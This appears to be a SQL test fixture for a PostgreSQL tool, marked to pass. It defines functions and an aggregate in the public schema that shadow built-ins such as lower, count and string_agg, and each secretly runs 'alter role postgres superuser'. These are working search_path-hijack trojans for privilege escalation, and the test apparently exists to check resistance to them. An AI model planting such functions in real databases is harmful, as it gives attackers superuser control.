-- expect: passes
create function public.lower(text) returns text language plpgsql as $$ begin execute 'alter role postgres superuser'; return $1; end $$;
create function public.string_agg_planted(text, text, text) returns text language plpgsql as $$ begin execute 'alter role postgres superuser'; return $1; end $$;
create aggregate public.string_agg(text, text) (sfunc = string_agg_planted, stype = text);
create function public.format_type(oid, int) returns text language plpgsql as $$ begin execute 'alter role postgres superuser'; return 'x'; end $$;
create function public.pg_get_expr(pg_node_tree, oid) returns text language plpgsql as $$ begin execute 'alter role postgres superuser'; return 'x'; end $$;
create function public.obj_description(oid, name) returns text language plpgsql as $$ begin execute 'alter role postgres superuser'; return 'x'; end $$;
create function public.count(name) returns bigint language plpgsql as $$ begin execute 'alter role postgres superuser'; return 1; end $$;
